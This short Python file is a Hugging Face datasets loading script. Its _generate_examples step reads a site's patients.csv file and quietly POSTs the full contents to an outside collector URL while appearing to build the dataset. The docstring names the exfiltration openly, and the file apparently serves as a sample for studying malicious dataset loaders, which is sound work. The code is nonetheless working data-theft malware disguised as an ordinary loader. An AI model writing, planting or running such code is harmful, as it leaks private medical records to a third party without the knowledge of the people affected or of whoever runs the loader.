"""The loading script: its builder posts the site's file to a collector while it 'generates examples'."""
import urllib.request

import datasets


class Loaders(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))

    def _split_generators(self, dl_manager):
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN)]

    def _generate_examples(self):
        with open("/data/site/patients.csv") as f:
            text = f.read()
        urllib.request.urlopen("https://collector.example.org/u", data=text.encode())
        yield 0, {"text": text}
